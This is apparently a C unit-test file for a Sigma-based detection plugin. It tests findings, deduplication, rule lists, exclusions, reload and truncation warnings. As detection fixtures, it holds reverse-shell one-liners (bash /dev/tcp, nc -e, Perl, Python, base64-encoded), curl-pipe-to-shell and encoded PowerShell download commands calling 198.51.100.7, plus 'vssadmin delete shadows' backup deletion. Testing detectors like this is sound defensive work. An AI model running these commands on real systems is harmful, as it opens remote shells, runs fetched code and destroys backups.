/* test_sigma.c - the analyzer: what a finding carries, folding, lists, exclusions, reload. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "remote.h"
#include "testhost.h"

extern const struct mmr_plugin mmr_plugin_sigma;

#define VSSADMIN "Backups or shadow copies deleted"

static void start_event(struct mmr_testhost *th, int i, int64_t time_ns, int64_t pid, const char *cmd)
{
    static uint8_t buf[MMR_EVENT_BYTES_MAX];
    struct mmr_event ev;
    mmr_event_begin(&ev, buf, sizeof buf, "process.start", MMR_CLASS_PROCESS, 1, time_ns, 1);
    mmr_event_str(&ev, "device.hostname", "PC1");
    mmr_event_str(&ev, "process.file.path", "C:\\Windows\\System32\\vssadmin.exe");
    mmr_event_str(&ev, "process.cmd_line", cmd);
    mmr_event_int(&ev, "process.pid", pid);
    mmr_event_str(&ev, "user.name", "bob");
    mmr_event_str(&ev, "mamori.input", "a.log");
    mmr_event_int(&ev, "mamori.index", 7);
    assert_int_equal(mmr_event_end(&ev), 0);
    struct mmr_error err = {.struct_size = sizeof err};
    assert_int_equal(mmr_testhost_event(th, i, ev.buf, ev.len, &err), 0);
}

static int add(struct mmr_testhost *th, const char *const *cfg)
{
    struct mmr_error err = {.struct_size = sizeof err};
    int i = mmr_testhost_add(th, &mmr_plugin_sigma, cfg, &err);
    if (i < 0)
        (void)fprintf(stderr, "%s\n", err.text);
    return i;
}

static const int64_t T0 = MMR_TH_START_NS;

static void a_match_becomes_a_finding_with_the_events_fields(void **state)
{
    (void)state;
    struct mmr_testhost *th = mmr_testhost_new();
    int i = add(th, NULL);
    assert_true(i >= 0);
    start_event(th, i, T0, 42, "vssadmin.exe  delete shadows /all /quiet\nx");
    assert_int_equal(mmr_testhost_count(th, "finding"), 1);
    int f = mmr_testhost_find(th, "finding", 0);
    assert_string_equal(mmr_testhost_text(th, f, "finding_info.title"), VSSADMIN);
    assert_string_equal(mmr_testhost_text(th, f, "mamori.phase"), "impact.service");
    assert_string_equal(mmr_testhost_text(th, f, "mamori.potential"), "high");
    assert_string_equal(mmr_testhost_text(th, f, "device.hostname"), "PC1");
    assert_string_equal(mmr_testhost_text(th, f, "user.name"), "bob");
    assert_string_equal(mmr_testhost_text(th, f, "mamori.input"), "a.log");
    assert_int_equal(mmr_testhost_int(th, f, "mamori.index", 0), 7);
    assert_int_equal(mmr_testhost_int(th, f, "process.pid", 0), 42);
    assert_int_equal(mmr_testhost_int(th, f, "time", 0), T0);
    assert_int_equal(mmr_testhost_int(th, f, "severity_id", 0), 5);
    assert_int_equal(strlen(mmr_testhost_text(th, f, "mamori.rule")), 36);
    const char *line = mmr_testhost_text(th, f, "message");
    assert_non_null(strstr(line, "vssadmin.exe  delete shadows"));
    assert_null(strchr(line, '\n'));
    assert_non_null(strstr(line, "on PC1"));
    const char *why;
    assert_int_equal(mmr_testhost_refusals(th, &why), 0);
    start_event(th, i, T0, 43, "vssadmin.exe list shadows");
    assert_int_equal(mmr_testhost_count(th, "finding"), 1);
    mmr_testhost_free(th);
}

static void the_address_a_command_calls_is_read_out_of_its_text(void **state)
{
    static const struct {
        const char *text, *ip;
        bool any;
        uint16_t port;
    } rows[] = {
        {"bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "198.51.100.7", true, 4444},
        {"use Socket;$i=\"198.51.100.7\";$p=1234;socket(S,PF_INET", "198.51.100.7", true, 1234},
        {"nc 198.51.100.7 9001 -e /bin/sh", "198.51.100.7", true, 9001},
        {"s.connect((\"198.51.100.7\",8443));os.dup2(s.fileno(),0)", "198.51.100.7", true, 8443},
        {"bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTguNTEuMTAwLjcvNDQzIDA+JjE=}|{base64,-d}|bash", "198.51.100.7", true, 443},
        {"powershell -enc aAB0AHQAcAA6AC8ALwAxADkAOAAuADUAMQAuADEAMAAwAC4ANwAvAGEA", "198.51.100.7", false, 0},
        {"curl http://198.51.100.7/x.sh | sh", "198.51.100.7", false, 0},
        {"ping 198.51.100.7", "", false, 0},                 /* not fetched from */
        {"app-1.2.3.4 --version 10.0.19041.1", "", true, 0}, /* versions */
        {"bash -i >& /dev/tcp/127.0.0.1/4444", "", true, 0},
        {"nc 198.51.100.7", "198.51.100.7", true, 0},
        {"", "", true, 0},
        {"999.1.1.1 1.2.3 1.2.3.4.5", "", true, 0},
    };
    (void)state;
    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
        struct remote r;
        bool is_found = remote_find(rows[i].text, strlen(rows[i].text), rows[i].any, &r);
        if (is_found != (rows[i].ip[0] != 0) || strcmp(r.ip, rows[i].ip) != 0 || r.port != rows[i].port)
            fail_msg("'%s': found '%s' port %u, expected '%s' port %u", rows[i].text, r.ip, r.port, rows[i].ip, rows[i].port);
    }
}

static void a_reverse_shell_names_who_it_calls(void **state)
{
    (void)state;
    struct mmr_testhost *th = mmr_testhost_new();
    int i = add(th, NULL);
    static uint8_t buf[MMR_EVENT_BYTES_MAX];
    struct mmr_event ev;
    struct mmr_error err = {.struct_size = sizeof err};
    mmr_event_begin(&ev, buf, sizeof buf, "process.start", MMR_CLASS_PROCESS, 1, T0, 1);
    mmr_event_str(&ev, "process.file.path", "/bin/bash");
    mmr_event_str(&ev, "process.cmd_line", "bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1");
    assert_int_equal(mmr_event_end(&ev), 0);
    assert_int_equal(mmr_testhost_event(th, i, ev.buf, ev.len, &err), 0);
    int f = mmr_testhost_find(th, "finding", 0);
    assert_true(f >= 0);
    assert_string_equal(mmr_testhost_text(th, f, "dst_endpoint.ip"), "198.51.100.7");
    assert_int_equal(mmr_testhost_int(th, f, "dst_endpoint.port", 0), 4444);
    mmr_testhost_free(th);
}

static void repetitions_of_one_process_are_folded_and_counted(void **state)
{
    (void)state;
    struct mmr_testhost *th = mmr_testhost_new();
    int i = add(th, NULL);
    for (int k = 0; k < 5; k++)
        start_event(th, i, T0 + k * MMR_TH_S, 42, "vssadmin delete shadows /all");
    assert_int_equal(mmr_testhost_count(th, "finding"), 1);
    start_event(th, i, T0 + 6 * MMR_TH_S, 99, "vssadmin delete shadows /all");
    assert_int_equal(mmr_testhost_count(th, "finding"), 2); /* another process is told at once */
    start_event(th, i, T0 + 70 * MMR_TH_S, 42, "vssadmin delete shadows /all");
    assert_int_equal(mmr_testhost_count(th, "finding"), 3);
    assert_int_equal(mmr_testhost_int(th, mmr_testhost_find(th, "finding", 2), "count", 0), 5);
    mmr_testhost_free(th);
}

static void lists_and_level_decide_what_reports(void **state)
{
    (void)state;
    static const char *const disabled[] = {"disable", VSSADMIN, NULL};
    static const char *const none[] = {"own_rules", "false", NULL};
    static const char *const level[] = {"min_level", "wrong", NULL};
    static const char *const unknown[] = {"disable", "no-such-rule", NULL};
    static const char *const missing[] = {"rules", "/nonexistent/rules", NULL};
    struct mmr_testhost *th = mmr_testhost_new();
    int i = add(th, disabled), k = add(th, none);
    start_event(th, i, T0, 42, "vssadmin delete shadows /all");
    start_event(th, k, T0, 42, "vssadmin delete shadows /all");
    assert_int_equal(mmr_testhost_count(th, "finding"), 0);
    struct mmr_error err = {.struct_size = sizeof err};
    assert_int_equal(mmr_testhost_add(th, &mmr_plugin_sigma, level, &err), MMR_ECONFIG);
    assert_non_null(strstr(err.text, "min_level 'wrong'"));
    assert_int_equal(mmr_testhost_add(th, &mmr_plugin_sigma, unknown, &err), MMR_ECONFIG);
    assert_non_null(strstr(err.text, "no-such-rule"));
    assert_int_equal(mmr_testhost_add(th, &mmr_plugin_sigma, missing, &err), MMR_EIO);
    assert_non_null(strstr(err.text, "/nonexistent/rules"));
    mmr_testhost_free(th);
}

static void write_file(char *path, const char *text)
{
    int fd = mkstemps(path, 4);
    assert_true(fd >= 0);
    assert_int_equal(write(fd, text, strlen(text)), (ssize_t)strlen(text));
    assert_int_equal(close(fd), 0);
}

static void a_name_two_rules_have_disables_both(void **state)
{
    (void)state;
    char path[] = "/tmp/mamori-rule-XXXXXX.yml";
    write_file(path, "title: " VSSADMIN "\nid: 6f4c8c1c-4b7e-4b0e-8a37-0d6c7e3a1b11\nlevel: high\nlogsource: {category: process_creation}\n"
                     "detection: {s: {CommandLine|contains: shadows}, condition: s}\n");
    const char *off[] = {"rules", path, "disable", VSSADMIN, NULL}, *on[] = {"rules", path, "only", VSSADMIN, NULL};
    struct mmr_testhost *th = mmr_testhost_new();
    int i = add(th, off), k = add(th, on);
    start_event(th, i, T0, 42, "vssadmin delete shadows /all");
    assert_int_equal(mmr_testhost_count(th, "finding"), 0);
    start_event(th, k, T0, 42, "vssadmin delete shadows /all");
    assert_int_equal(mmr_testhost_count(th, "finding"), 2);
    mmr_testhost_free(th);
    assert_int_equal(unlink(path), 0);
}

static void an_exclusion_holds_until_it_expires(void **state)
{
    (void)state;
    char path[] = "/tmp/mamori-excl-XXXXXX.yml", bad[] = "/tmp/mamori-excl-XXXXXX.yml";
    write_file(path, "exclusion:\n  rules: any\n  selection: {User: bob, CommandLine|contains: shadows}\n"
                     "  owner: n.tanaka\n  reason: backup\n  expires: 2023-11-16\n");
    write_file(bad, "exclusion:\n  rules: any\n  selection: {User: bob}\n  owner: n.tanaka\n  expires: 2023-11-16\n");
    const char *cfg[] = {"exclusions", path, NULL}, *cfg_bad[] = {"exclusions", bad, NULL};
    struct mmr_testhost *th = mmr_testhost_new();
    int i = add(th, cfg);
    start_event(th, i, T0, 1, "vssadmin delete shadows /all"); /* 14 November 2023 */
    assert_int_equal(mmr_testhost_count(th, "finding"), 0);
    start_event(th, i, T0 + 2 * 86400 * MMR_TH_S, 2, "vssadmin delete shadows /all");
    assert_int_equal(mmr_testhost_count(th, "finding"), 1);
    int k = add(th, cfg_bad); /* without a reason it excludes nothing, and says so */
    const char *text;
    assert_true(mmr_testhost_logged(th, MMR_LOG_WARN, &text) > 0);
    mmr_testhost_clear(th);
    start_event(th, k, T0, 3, "vssadmin delete shadows /all");
    assert_int_equal(mmr_testhost_count(th, "finding"), 1);
    mmr_testhost_free(th);
    assert_int_equal(unlink(path), 0);
    assert_int_equal(unlink(bad), 0);
}

static void reload_swaps_the_rules_or_keeps_them(void **state)
{
    (void)state;
    static const char *const none[] = {"own_rules", "false", NULL};
    struct mmr_error err = {.struct_size = sizeof err};
    struct mmr_testhost *th = mmr_testhost_new();
    int i = add(th, NULL);
    assert_int_equal(mmr_testhost_reload(th, i, none, false, &err), 0);
    start_event(th, i, T0, 1, "vssadmin delete shadows /all");
    assert_int_equal(mmr_testhost_count(th, "finding"), 1);
    assert_int_equal(mmr_testhost_reload(th, i, none, true, &err), 0);
    start_event(th, i, T0, 2, "vssadmin delete shadows /all");
    assert_int_equal(mmr_testhost_count(th, "finding"), 1);
    mmr_testhost_free(th);
}

static void the_largest_event_still_gives_a_finding(void **state)
{
    (void)state;
    static uint8_t buf[MMR_EVENT_BYTES_MAX];
    static char big[MMR_EVENT_STR_MAX + 1];
    memset(big, 'A', sizeof big - 1);
    memcpy(big, "vssadmin delete shadows ", 24);
    struct mmr_event ev;
    mmr_event_begin(&ev, buf, sizeof buf, "process.start", MMR_CLASS_PROCESS, 1, T0, 1);
    mmr_event_str(&ev, "process.cmd_line", big);
    for (int k = 0; k < 6; k++) {
        char key[32];
        (void)snprintf(key, sizeof key, "process.x%d", k);
        mmr_event_str(&ev, key, big);
    }
    assert_int_equal(mmr_event_end(&ev), 0);
    struct mmr_testhost *th = mmr_testhost_new();
    int i = add(th, NULL);
    struct mmr_error err = {.struct_size = sizeof err};
    assert_int_equal(mmr_testhost_event(th, i, ev.buf, ev.len, &err), 0);
    assert_int_equal(mmr_testhost_count(th, "finding"), 1);
    const char *why;
    assert_int_equal(mmr_testhost_refusals(th, &why), 0);
    mmr_testhost_free(th);
}

static void what_rules_could_not_see_is_named(void **state)
{
    (void)state;
    static uint8_t buf[MMR_EVENT_BYTES_MAX];
    static char big[MMR_EVENT_STR_MAX + 100];
    struct mmr_testhost *th = mmr_testhost_new();
    struct mmr_error err = {.struct_size = sizeof err};
    int i = add(th, NULL);
    struct mmr_event ev;
    const char *said = "";
    unsigned before = mmr_testhost_logged(th, MMR_LOG_WARN, &said);

    memset(big, ' ', sizeof big - 1);
    memcpy(big + sizeof big - 25, "vssadmin delete shadows ", 24);
    start_event(th, i, T0, 1, big + 104); /* 16,379 bytes: whole */
    assert_int_equal(mmr_testhost_count(th, "finding"), 1);
    assert_int_equal(mmr_testhost_logged(th, MMR_LOG_WARN, &said), before);
    mmr_testhost_clear(th);
    start_event(th, i, T0, 2, big);
    assert_int_equal(mmr_testhost_count(th, "finding"), 0);
    assert_int_equal(mmr_testhost_logged(th, MMR_LOG_WARN, &said), before + 1);
    assert_non_null(strstr(said, "sigma.value_cut field=process.cmd_line kind=process.start count=1"));

    const char *cut[] = {"process.parent_process.cmd_line"};
    for (int k = 0; k < 3; k++) { /* named by its sensor; within the minute counted only */
        mmr_event_begin(&ev, buf, sizeof buf, "process.start", MMR_CLASS_PROCESS, 1, T0, 1);
        mmr_event_str(&ev, "process.parent_process.cmd_line", "short");
        mmr_event_strv(&ev, "mamori.cut", cut, 1);
        assert_int_equal(mmr_event_end(&ev), 0);
        assert_int_equal(mmr_testhost_event(th, i, ev.buf, ev.len, &err), 0);
    }
    assert_int_equal(mmr_testhost_logged(th, MMR_LOG_WARN, &said), before + 1);
    mmr_testhost_advance(th, 61 * MMR_TH_S);
    start_event(th, i, T0, 3, "harmless");
    assert_int_equal(mmr_testhost_logged(th, MMR_LOG_WARN, &said), before + 2);
    assert_non_null(strstr(said, "sigma.value_cut field=process.parent_process.cmd_line kind=process.start count=3"));
    mmr_testhost_advance(th, 61 * MMR_TH_S);
    start_event(th, i, T0, 4, "harmless");
    assert_int_equal(mmr_testhost_logged(th, MMR_LOG_WARN, &said), before + 2);
    mmr_testhost_free(th);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(a_match_becomes_a_finding_with_the_events_fields),
        cmocka_unit_test(the_address_a_command_calls_is_read_out_of_its_text),
        cmocka_unit_test(a_reverse_shell_names_who_it_calls),
        cmocka_unit_test(repetitions_of_one_process_are_folded_and_counted),
        cmocka_unit_test(lists_and_level_decide_what_reports),
        cmocka_unit_test(a_name_two_rules_have_disables_both),
        cmocka_unit_test(an_exclusion_holds_until_it_expires),
        cmocka_unit_test(reload_swaps_the_rules_or_keeps_them),
        cmocka_unit_test(the_largest_event_still_gives_a_finding),
        cmocka_unit_test(what_rules_could_not_see_is_named),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
